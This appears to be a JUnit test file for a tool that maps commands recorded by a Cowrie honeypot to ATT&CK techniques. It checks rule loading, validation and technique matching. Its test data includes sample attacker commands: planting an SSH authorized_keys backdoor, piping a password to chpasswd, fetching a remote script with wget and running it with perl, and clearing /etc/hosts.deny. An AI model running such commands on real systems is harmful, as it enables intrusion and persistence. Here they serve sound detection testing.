package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.github.cowriekit.model.assessment.Confidence;
import io.github.cowriekit.model.assessment.TechniqueMatch;
import io.github.cowriekit.parser.CowrieLog;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvFileSource;
import org.junit.jupiter.params.provider.CsvSource;

class AttackRulesTest {
    private static final AttackRules RULES = AttackRules.standard();
    private static final Path RECORDED = Path.of("..", "..", "shared", "cowrie3", "plain");

    @TempDir
    private Path folder;

    @ParameterizedTest
    @CsvFileSource(resources = "attack-examples.tsv", delimiter = '\t', numLinesToSkip = 1, quoteCharacter = '\u0001')
    void matchesTheExampleOfEveryRule(String rule, String command) {
        assertThat(RULES.match(command)).extracting(match -> match.rule().id()).contains(rule);
    }

    @Test
    void hasAnExampleForEveryRuleAboutCommands() throws IOException {
        String examples = Files.readString(
                Path.of("src", "test", "resources", "io", "github", "cowriekit", "analysis", "attack-examples.tsv"));
        List<String> withExample = examples.lines()
                .skip(1)
                .map(line -> line.substring(0, line.indexOf('\t')))
                .toList();

        assertThat(RULES.text()
                        .lines()
                        .skip(1)
                        .filter(line -> !line.contains("\tevent\t"))
                        .map(line -> line.substring(0, line.indexOf('\t'))))
                .containsExactlyElementsOf(withExample);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "uname -s -v -n -r -m ! T1082",
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh ! "
                        + "T1070.004 T1098.004",
                "cd ~ && chmod 700 .ssh && cat k >> .ssh/authorized_keys ! T1098.004 T1222.002",
                "echo \"root:x\"|chpasswd|bash ! T1059.004 T1098",
                "wget -qO - http://192.0.2.7/csx/perlNIK|perl ! T1059 T1105",
                "echo > /etc/hosts.deny ! T1562.004",
                "crontab -l ! T1053.003",
                "lspci | grep VGA ! T1082",
                "exit ! ''",
            })
    void findsTheTechniquesOfTheReference(String command, String techniques) {
        String found = RULES.match(command).stream()
                .map(match -> match.rule().technique())
                .distinct()
                .sorted()
                .collect(Collectors.joining(" "));

        assertThat(found).isEqualTo(techniques.equals("''") ? "" : techniques);
    }

    @Test
    void keepsTheMatchedTextAndCutsItShort() {
        assertThat(RULES.match("echo x; whoami"))
                .filteredOn(match -> match.rule().id().equals("A10"))
                .singleElement()
                .extracting(TechniqueMatch::matched)
                .isEqualTo("whoami");
        assertThat(RULES.match("echo -e \"" + "\\x41".repeat(500) + "\""))
                .allSatisfy(match -> assertThat(match.matched()).hasSizeLessThanOrEqualTo(200));
    }

    @Test
    void looksAtOneCommandAtATime() {
        assertThat(RULES.match("chmod x; ls 755"))
                .extracting(match -> match.rule().id())
                .doesNotContain("A42");
        assertThat(RULES.match("echo 'chmod; 755'"))
                .extracting(match -> match.rule().id())
                .contains("A42");
    }

    @Test
    void saysOfReadingACrontabThatItMeansLittle() {
        assertThat(RULES.match("crontab -l"))
                .extracting(match -> match.rule().confidence())
                .containsExactly(Confidence.LOW);
    }

    @Test
    void findsWhatTheSlowWayFinds() throws IOException {
        assumeTrue(Files.isDirectory(RECORDED), "no real sessions beside the project at " + RECORDED + ": skipped");
        Path unfiltered = folder.resolve("slow.tsv");
        Files.writeString(
                unfiltered,
                RULES.text()
                        .lines()
                        .map(line -> {
                            String[] cells = line.split("\t", -1);
                            cells[3] = cells[3].equals("needs") ? "needs" : "-";
                            return String.join("\t", cells);
                        })
                        .collect(Collectors.joining("\n")));
        AttackRules slow = AttackRules.load(unfiltered);

        try (var sessions = CowrieLog.in(RECORDED).onProblem(problem -> {}).sessions()) {
            sessions.flatMap(session -> session.commands().stream())
                    .forEach(
                            command -> assertThat(RULES.match(command.input())).isEqualTo(slow.match(command.input())));
        }
    }

    @Test
    void writesTheRulesItReads() throws IOException {
        Path file = folder.resolve("rules.tsv");
        Files.writeString(file, RULES.text());

        assertThat(AttackRules.load(file).text()).isEqualTo(RULES.text());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "3  ! (x            ! no regular expression of RE2",
                "3  ! x*            ! fits everything",
                "3  ! a(?=b)        ! no regular expression of RE2",
                "2  ! somewhere     ! scope must be one of command, line, event",
                "5  ! 1082          ! technique must look like",
                "11 ! certain       ! confidence must be one of low, medium, high",
                "9  ! later         ! stage must be one of",
            })
    void rejectsNonsenseByLine(int column, String text, String why) throws IOException {
        String[] cells = RULES.text().lines().toList().get(1).split("\t", -1);
        cells[column - 1] = text;
        Path file = folder.resolve("rules.tsv");
        Files.writeString(file, RULES.text().lines().findFirst().orElseThrow() + "\n" + String.join("\t", cells));

        assertThatThrownBy(() -> AttackRules.load(file))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageStartingWith("rules.tsv line 2: ")
                .hasMessageContaining(why);
    }

    @Test
    void rejectsRulesThatAreThereTwice() throws IOException {
        List<String> lines = RULES.text().lines().toList();
        Path file = folder.resolve("rules.tsv");
        Files.writeString(file, lines.get(0) + "\n" + lines.get(1) + "\n" + lines.get(1));

        assertThatThrownBy(() -> AttackRules.load(file)).hasMessage("rules.tsv line 3: the rule A01 is there twice");
    }

    @Test
    void rejectsAFileThatIsNotThere() {
        assertThatThrownBy(() -> AttackRules.load(folder.resolve("none.tsv")))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageContaining("cannot read the rules");
    }
}
